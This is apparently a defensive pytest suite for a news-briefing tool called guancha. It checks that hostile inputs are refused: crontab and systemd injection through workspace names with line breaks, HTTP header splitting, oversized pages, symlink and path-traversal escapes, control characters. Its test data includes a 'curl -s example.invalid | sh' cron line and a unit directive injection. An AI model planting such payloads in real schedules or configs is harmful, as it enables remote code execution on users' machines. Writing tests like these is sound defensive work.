"""Hostile pass 14: input against the newer commands. A workspace folder whose name holds a line break wrote
directives of its own into `schedule emit`'s units and crontab; a sample web's _routes.yaml could make its server
build a page of 100 GB or print a server thread's traceback."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import httpx
import pytest

from guancha.errors import ConfigError, UsageError
from guancha.sampleweb import SampleWeb, bundled_sample, serve
from guancha.units import cron_lines, systemd_units
from guancha.workspace import init_workspace
from tests.conftest import run_cli


def _no_traceback(result: object) -> str:
    out = f"{result.stdout}{result.stderr}"   # type: ignore[attr-defined]
    assert "Traceback" not in out, out[-2000:]
    return out


# --------------------------------------------------------------------------- schedule emit


@pytest.mark.parametrize("name", [
    "ops\n[Service]\nExecStartPre=/bin/touch /tmp/owned\n#",     # a unit directive of its own
    "nightly\r\n* * * * * curl -s example.invalid | sh\r\n",     # a cron job of its own
    "desk\u2028two",                                              # a Unicode line separator
])
def test_a_workspace_path_with_a_line_break_is_refused_not_written_into_the_units(tmp_path: Path, name: str) -> None:
    root = tmp_path / name
    root.mkdir(parents=True)   # the first name's slashes make folders in it
    for emit in (systemd_units, cron_lines):
        with pytest.raises(UsageError) as caught:
            emit(root)
        assert "line break" in caught.value.message and "move the workspace" in (caught.value.fix or "")
        assert "\n" not in caught.value.message and "\r" not in caught.value.message


def test_a_command_word_with_a_control_character_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="the command"):
        cron_lines(tmp_path, command='guancha "--flag\x0bvalue"')
    with pytest.raises(UsageError, match="the command"):
        systemd_units(tmp_path, command="/opt/guancha\x1b[2J/bin/guancha")
    # an ordinary path with spaces and a percent sign is still written, quoted and escaped
    spaced = tmp_path / "team briefings 100%"
    spaced.mkdir()
    units = systemd_units(spaced)
    assert 'WorkingDirectory=' + str(spaced.resolve()).replace("%", "%%") in units["guancha-serve.service"]


def test_schedule_emit_names_the_bad_workspace_path_and_exits_2(tmp_path: Path) -> None:
    root = tmp_path / "feeds\n[Install]\nWantedBy=evil.target"
    init_workspace(root)
    result = run_cli("schedule", "emit", "--systemd", "--workspace", str(root))
    out = _no_traceback(result)
    assert result.returncode == 2, out
    assert "WantedBy=evil.target" not in result.stdout and "line break" in result.stderr


# --------------------------------------------------------------------------- a sample web's routes


def _sample_with_routes(tmp_path: Path, routes: str) -> Path:
    root = tmp_path / "sample"
    shutil.copytree(bundled_sample(), root)
    with (root / "site" / "_routes.yaml").open("a", encoding="utf-8") as fh:
        fh.write("\n" + routes)
    return root


@pytest.mark.parametrize(("routes", "field"), [
    ("/dragonwire/feed.xml:\n  pad_to_bytes: 100000000000\n", "pad_to_bytes"),      # a 100 GB page
    ("/siliconstrait/atom.xml:\n  headers: {X-Note: \"tea \u2615\"}\n", "headers"),  # not Latin-1
    ("/siliconstrait/atom.xml:\n  headers: {\"X-A\\r\\nSet-Cookie\": \"x\"}\n", "headers"),  # a split header name
    ("/yangtze-post/rss.xml:\n  headers: {Link: \"a\\r\\nb\"}\n", "headers"),          # a split header value
    ("/yangtze-post/rss.xml:\n  status: 0\n", "status"),
    ("/yangtze-post/rss.xml:\n  statuses: [503, 7000]\n", "statuses"),
    ("/pacific-ledger/rss.xml:\n  delay_s: 1.0e9\n", "delay_s"),
    ("/pacific-ledger/rss.xml:\n  content_type: \"text/html\\nX-Other: 1\"\n", "content_type"),
])
def test_a_route_beyond_what_a_server_can_answer_is_a_config_error_naming_it(tmp_path: Path, routes: str,
                                                                            field: str) -> None:
    root = _sample_with_routes(tmp_path, routes)
    with pytest.raises(ConfigError) as caught:
        SampleWeb.load(root)
    assert "_routes.yaml" in caught.value.message and field in caught.value.message


def test_demo_on_a_sample_padding_a_page_to_100_gb_exits_2_with_no_traceback(tmp_path: Path) -> None:
    root = _sample_with_routes(tmp_path, "/siliconstrait/atom.xml:\n  pad_to_bytes: 100000000000\n")
    result = run_cli("demo", "--sample", str(root), "--workspace", str(tmp_path / "ws"))
    out = _no_traceback(result)
    assert result.returncode == 2, out
    assert "pad_to_bytes" in result.stderr and "_routes.yaml" in result.stderr


def test_a_symlink_loop_or_a_link_out_of_the_site_is_answered_404(tmp_path: Path) -> None:
    root = _sample_with_routes(tmp_path, "")
    os.symlink("ring.html", root / "site" / "ring.html")              # a loop: resolve() raised RuntimeError
    os.symlink("/etc/hostname", root / "site" / "host.html")          # a file outside the site
    web = SampleWeb.load(root)
    assert web.file_for("/ring.html") is None and web.file_for("/host.html") is None
    with serve(web) as server:
        for path in ("/ring.html", "/host.html", "/dragonwire/../../watcher.yaml"):
            assert httpx.get(server.base + path, timeout=10).status_code == 404
        assert httpx.get(server.base + "/dragonwire/feed.xml", timeout=10).status_code == 200


# --------------------------------------------------------------------------- data no rule foresaw


def _finalised_workspace(workspace: Path) -> tuple[Path, str]:
    """A workspace with one finalised china-ai report (written from stored articles, no network)."""
    import datetime as dt

    from guancha.run import run_watcher
    from guancha.workspace import open_workspace
    from tests.briefing_data import FEED, SPEC, china_ai_articles, insert

    (workspace / "watchers" / "china-ai.yaml").write_text(SPEC.format(feed=FEED), encoding="utf-8")
    ws = open_workspace(workspace)
    insert(ws.db(), "china-ai", china_ai_articles())
    result = run_watcher(ws, "china-ai", report_date=dt.date(2026, 5, 2), collect=False)
    assert result.status == "finalised"
    return workspace, result.run_id


def _set(root: Path, sql: str) -> None:
    import sqlite3

    with sqlite3.connect(root / "guancha.db") as conn:
        conn.execute(sql)


@pytest.mark.parametrize(("sql", "command", "where"), [
    ("UPDATE reports SET version = 'second'", ["site", "build"], "ValueError"),
    ("UPDATE check_iterations SET targets_json = '{'", ["review", "RUN"], "JSONDecodeError"),
])
def test_a_database_row_of_the_wrong_type_is_one_line_naming_it_not_a_traceback(
        workspace: Path, sql: str, command: list[str], where: str) -> None:
    root, run_id = _finalised_workspace(workspace)
    _set(root, sql)
    result = run_cli(*(run_id[:12] if word == "RUN" else word for word in command), "--workspace", str(root))
    out = _no_traceback(result)
    assert result.returncode == 1, out
    assert result.stderr.startswith("error: internal error: ") and where in result.stderr, out
    assert "GUANCHA_DEBUG=1" in result.stderr
    shown = run_cli(*(run_id[:12] if word == "RUN" else word for word in command), "--workspace", str(root),
                    GUANCHA_DEBUG="1")
    assert "Traceback" in shown.stderr   # the person who reports it can see where


# --------------------------------------------------------------------------- escapes written in settings


@pytest.mark.parametrize(("file", "text", "field", "line"), [
    ("watchers/china-ai.yaml", 'id: china-ai\ntitle: "Harbour \\e[2J AI"\n', "title", 2),
    ("watchers/china-ai.yaml", 'id: china-ai\ntitle: Harbour\nkeywords: [cranes, "quay\\u202e"]\n', "keywords.1", 3),
    ("guancha.yaml", 'contact: "desk\\x07@example.org"\n', "contact", 1),
    ("guancha.yaml", 'contact: ops\nsearch:\n  templates: {"feed\\ud83d": "https://s.example/{query}"}\n',
     "search.templates", 3),
])
def test_a_control_character_written_as_a_yaml_escape_is_a_config_error_with_its_line(
        workspace: Path, file: str, text: str, field: str, line: int) -> None:
    from guancha.spec import load_settings, load_watcher

    path = workspace / file
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        (load_watcher if file.startswith("watchers") else load_settings)(path)
    assert f"{file.rpartition('/')[2]}:{line} field '{field}'" in caught.value.message
    assert "control character" in caught.value.message and caught.value.fix


def test_a_tab_or_a_line_break_in_a_description_stays_allowed(workspace: Path) -> None:
    import yaml

    from guancha.spec import load_watcher

    path = workspace / "watchers" / "china-ai.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["description"] = "Two lines:\n\tthe second indented.\r\n"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    assert "\n\t" in load_watcher(path).description


@pytest.mark.parametrize("title", ['"Desk \\e[2J briefings"', '"Desk \\x85 briefings"'])
def test_an_escape_in_the_site_title_is_refused_before_it_breaks_the_feeds(workspace: Path, title: str) -> None:
    (workspace / "site.yaml").write_text(f"title: {title}\n", encoding="utf-8")
    result = run_cli("site", "build", "--workspace", str(workspace))
    out = _no_traceback(result)
    assert result.returncode == 2, out
    assert "site.yaml" in result.stderr and "'title'" in result.stderr and "control character" in result.stderr
    assert not (workspace / "site" / "feed.atom").exists()


# --------------------------------------------------------------------------- an endless standard input


class _Endless:
    """A stream that never ends (``< /dev/zero``), counting what was asked of it."""

    def __init__(self, piece: int | None = None) -> None:
        self.given = 0
        self.piece = piece

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "read everything from an endless stream"
        n = min(size, self.piece or size)
        self.given += n
        return b"\0" * n


@pytest.mark.parametrize("piece", [None, 7])   # whole requests, and a pipe that hands over a few bytes at a time
def test_an_endless_stream_is_read_to_the_limit_and_refused(piece: int | None) -> None:
    from guancha.inputfiles import read_stream

    stream = _Endless(piece)
    with pytest.raises(UsageError) as caught:
        read_stream(stream, 5_000, name="standard input", fix_size="split it")   # type: ignore[arg-type]
    assert stream.given == 5_001 and "standard input" in caught.value.message and caught.value.fix == "split it"


def test_subscribers_from_standard_input_are_read_and_a_bad_byte_is_named(workspace: Path) -> None:
    import subprocess
    import sys

    from tests.conftest import cli_env

    def add(data: bytes) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([sys.executable, "-m", "guancha", "subscribers", "add", "china-ai", "--file", "-",
                               "--workspace", str(workspace)], input=data, capture_output=True, env=cli_env(),
                              timeout=120)

    ok = add(b"wren@example.org\n# a comment\nfinch@example.net\n")
    assert ok.returncode == 0 and b"2 added" in ok.stdout, ok.stderr
    bad = add(b"robin@example.org\n\xff\xfe\n")
    assert bad.returncode == 2 and b"standard input is not valid UTF-8" in bad.stderr and b"Traceback" not in bad.stderr


# --------------------------------------------------------------------------- the site's manifest


def test_a_site_manifest_naming_files_outside_the_site_deletes_none_of_them(workspace: Path, tmp_path: Path) -> None:
    import json

    from guancha.publish.site import MANIFEST

    root, _ = _finalised_workspace(workspace)
    assert run_cli("site", "build", "--no-search", "--workspace", str(root)).returncode == 0
    site = root / "site"
    outside = tmp_path / "notes"
    outside.mkdir()
    victims = [outside / "thesis.txt", outside / "ledger.csv", root / "guancha.yaml"]
    for v in victims[:2]:
        v.write_text("kept\n", encoding="utf-8")
    (site / "linked").symlink_to(outside, target_is_directory=True)   # a folder of the site that leads out of it
    stale = site / "china-ai" / "2026-04-30" / "index.html"           # a page an earlier build wrote: still removed
    stale.parent.mkdir(parents=True)
    stale.write_text("<p>old</p>", encoding="utf-8")
    manifest = json.loads((site / MANIFEST).read_text(encoding="utf-8"))
    manifest["pages"].update({f"../../{outside.name}/thesis.txt": "0", str(outside / "ledger.csv"): "0",
                              "../guancha.yaml": "0", "linked/thesis.txt": "0",
                              "china-ai/2026-04-30/index.html": "0"})
    # the site is tmp_path/ws/site: "../../notes" is tmp_path/notes; then an absolute name, the workspace's settings
    # one level up, and a name through the symlinked folder
    (site / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    result = run_cli("site", "build", "--no-search", "--workspace", str(root))
    assert result.returncode == 0, _no_traceback(result)
    assert all(v.exists() for v in victims), [v for v in victims if not v.exists()]
    assert not stale.exists()


def test_a_symlinked_search_index_folder_is_unlinked_not_emptied(tmp_path: Path) -> None:
    from guancha.publish.site import SEARCH_INDEX_DIR, update_search

    out = tmp_path / "site"
    index = out / SEARCH_INDEX_DIR
    (index / "harbour").mkdir(parents=True)            # a shard of a watcher still there
    (index / "harbour" / "pagefind.js").write_text("//", encoding="utf-8")
    (index / "gone" / "fragment").mkdir(parents=True)  # a shard of a watcher removed: its index goes
    elsewhere = tmp_path / "photos"
    elsewhere.mkdir()
    (elsewhere / "kept.jpg").write_bytes(b"\xff\xd8")
    (index / "old-shard").symlink_to(elsewhere, target_is_directory=True)
    assert update_search(out, {"harbour": "harbour/"}, []) is False
    assert (elsewhere / "kept.jpg").exists() and not (index / "old-shard").exists()
    assert not (index / "gone").exists() and (index / "harbour" / "pagefind.js").exists()
